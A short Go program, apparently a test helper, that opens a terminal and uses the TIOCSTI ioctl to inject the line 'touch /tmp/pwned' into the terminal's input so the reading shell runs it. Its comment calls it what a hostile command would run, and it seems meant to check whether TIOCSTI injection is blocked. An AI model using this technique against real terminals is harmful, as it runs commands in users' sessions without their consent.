// Command tiocsti is what a hostile command would run: it opens a
// terminal (its argument, /dev/tty when none) and pushes a line into the
// terminal's input with TIOCSTI, for the shell reading it to run. It
// prints "injected" or the error.
package main

import (
	"fmt"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	path := "/dev/tty"
	if len(os.Args) > 1 {
		path = os.Args[1]
	}
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NOCTTY, 0)
	if err != nil {
		fmt.Printf("open %s: %v\n", path, err)
		os.Exit(1)
	}
	for _, c := range []byte("touch /tmp/pwned\n") {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			fmt.Printf("TIOCSTI on %s: %v\n", path, errno)
			os.Exit(1)
		}
	}
	fmt.Println("injected")
}
